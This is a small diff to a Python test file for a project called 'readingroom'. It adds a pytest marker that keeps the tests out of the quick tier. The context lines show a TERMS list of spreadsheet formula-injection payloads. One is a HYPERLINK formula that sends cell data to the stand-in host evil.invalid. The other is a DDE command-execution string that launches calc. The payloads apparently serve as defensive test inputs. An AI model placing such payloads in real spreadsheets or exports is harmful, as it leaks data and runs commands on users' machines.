@@ -24,6 +24,9 @@ import pytest
 
 from readingroom.core import ledger, verification
 
+# Starts real server or command processes: left out of the quick tier (tests/conftest.py).
+pytestmark = pytest.mark.stdio
+
 TERMS = [
     '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
     "+cmd|' /C calc'!A0",
